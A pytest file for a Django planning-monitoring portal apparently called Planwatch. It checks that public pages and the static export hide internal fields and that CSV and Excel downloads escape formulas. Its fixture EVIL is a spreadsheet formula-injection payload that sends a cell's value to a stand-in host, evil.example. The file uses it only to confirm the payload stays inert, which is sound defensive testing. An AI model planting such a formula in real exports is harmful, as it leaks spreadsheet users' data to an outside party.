"""The public's view holds public fields only — also in the static export — and no spreadsheet
Planwatch writes runs a formula someone typed into a figure's source.

The static export (``planwatch portal export``) is crawled from the same database as
tests/web/security/test_visibility.py: drafts, returns, approvals and internal notes present.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from planwatch.web.monitoring import services
from planwatch.web.portal.export import export_site
from tests.web.conftest import entered
from tests.web.security.test_visibility import HIDDEN

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'


def _file_text(path) -> str:
    if path.suffix == ".xlsx":
        book = load_workbook(path)
        return "\n".join(
            ",".join("" if c is None else str(c) for c in row)
            for sheet in book.worksheets
            for row in sheet.iter_rows(values_only=True)
        )
    if path.suffix in (".html", ".csv", ".js", ".css", ".svg", ".json", ".txt"):
        return path.read_text("utf-8")
    return ""


def test_the_static_export_holds_no_internal_note_comment_or_unpublished_value(states, tmp_path):
    result = export_site(tmp_path / "site", languages=("zh-hans",))
    assert "indicators/I01/data.csv" in result.files and "indicators/I01/data.xlsx" in result.files
    seen, leaks = "", []
    for path in sorted((tmp_path / "site").rglob("*")):
        if path.is_file() and "static/vendor" not in str(path):
            text = _file_text(path)
            seen += text
            leaks += [f"{path.relative_to(tmp_path)}: {mark}" for mark in HIDDEN["anonymous"] if mark in text]
    assert leaks == []
    assert "4606.2" in seen and "246.8" in seen and "tjj.ganzhou.gov.cn" in seen


@pytest.fixture
def evil_source(cast, assignments, small_plan, reference_data):
    """A published 于都县 2023 figure (240.5) whose source is a formula, as someone might type it."""
    obs = entered(cast.yudu, small_plan, reference_data.regions["于都县"], 2023, 240.5, source=EVIL, note="+1 见附件")
    obs = services.approve_observation(
        services.submit_observation(obs, user=cast.yudu), user=cast.reviewer, comment="-核对无误"
    )
    return services.publish_observation(obs, user=cast.reviewer)


def _cells(body: bytes, fmt: str) -> list[tuple[str, str]]:
    """(value, kind) of every text cell: kind 'f' would be a live formula in Excel."""
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        return [(cell, "s") for row in csv.reader(io.StringIO(text)) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).active
    return [(str(c.value), c.data_type) for row in sheet.iter_rows() for c in row if c.value is not None]


# (role, url, format, a cell that must be there, escaped). The audit export holds the source inside
# its JSON of old and new values (text that does not begin like a formula) and the approval's
# comment "-核对无误" as its reason.
DOWNLOADS = [
    ("anonymous", "/portal/indicators/I01/data.csv", "csv", "'" + EVIL),
    ("anonymous", "/portal/indicators/I01/data.xlsx", "xlsx", "'" + EVIL),
    ("planner", "/dashboard/indicators/I01/data.csv", "csv", "'" + EVIL),
    ("planner", "/dashboard/indicators/I01/data.xlsx", "xlsx", "'" + EVIL),
    ("planner", "/monitoring/observations/export.csv", "csv", "'" + EVIL),
    ("planner", "/monitoring/audit.csv", "csv", "'-核对无误"),
]


@pytest.mark.parametrize(("role", "url", "fmt", "escaped"), DOWNLOADS)
def test_a_formula_typed_as_a_source_stays_text_in_every_download(
    role, url, fmt, escaped, evil_source, cast, client_for, anonymous_client
):
    client = anonymous_client if role == "anonymous" else client_for(getattr(cast, role))
    response = client.get(url)
    assert response.status_code == 200
    cells = _cells(response.content, fmt)
    assert escaped in [value for value, _ in cells], cells[:40]
    live = [
        value
        for value, kind in cells
        if kind == "f"
        or value.startswith(("=", "+", "@"))
        or (value.startswith("-") and not _is_number(value))
    ]
    assert live == []
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(response.content)) as book:
            assert all(
                b"<f>" not in book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")
            )


def test_the_static_exports_downloads_keep_the_formula_inert(evil_source, tmp_path):
    export_site(tmp_path, languages=("zh-hans",))
    for name, fmt in (("indicators/I01/data.csv", "csv"), ("indicators/I01/data.xlsx", "xlsx")):
        cells = _cells((tmp_path / name).read_bytes(), fmt)
        assert ("'" + EVIL) in [value for value, _ in cells], name
        assert not [v for v, kind in cells if kind == "f" or v.startswith("=")], name


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
